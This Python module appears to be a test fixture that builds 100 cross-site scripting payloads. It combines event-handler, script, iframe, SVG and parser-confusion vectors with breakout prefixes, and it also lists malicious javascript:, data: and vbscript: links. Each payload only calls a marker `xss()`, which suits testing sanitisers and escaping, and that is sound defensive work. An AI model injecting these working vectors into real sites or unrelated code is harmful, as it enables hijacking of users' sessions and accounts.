"""What an attacker would write into an article, its record, a question or an address. Each calls `xss()` if it is run."""

import base64
from itertools import product

SCRIPTS = (
    "<script>xss()</script>",
    "<script src=data:text/javascript,xss()></script>",
    "<ScRiPt >xss()</sCrIpT>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror='xss()' style=position:fixed;inset:0>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<body onload=xss()>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()><summary>x</summary></details>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<math><mi xlink:href=javascript:xss()>x</mi></math>",
    "<a href=javascript:xss()>x</a>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<form action=javascript:xss()><button autofocus>x</button></form>",
    "<style onload=xss()></style>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=xss()>",
    "<template><script>xss()</script></template><img src onerror=xss()>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<base href=javascript:/a/+xss()//><a href=#>x</a>",
)
# Where the text may stand: as it is, inside an attribute, inside an element that ends only at its own tag, inside a script.
BREAKOUTS = ("{}", "\"'>{}", "</title></textarea></style></script></template>--><!--{}-->{}", '\\"}}]);xss();//{}')
LINKS = (
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    " javascript:xss()",
    "java\tscript:xss()",
    "javascript://example.org/%0Axss()",
    "data:text/html,<script>opener.xss()</script>",
    "data:text/html;base64," + base64.b64encode(b"<script>opener.xss()</script>").decode(),
    "vbscript:xss()",
    "//x/' onclick='xss()",
    'https://example.org/" onmouseover="xss()',
)
PAYLOADS = [breakout.replace("{}", script).replace("}}", "}") for breakout, script in product(BREAKOUTS, SCRIPTS)]
assert len(set(PAYLOADS)) == 100
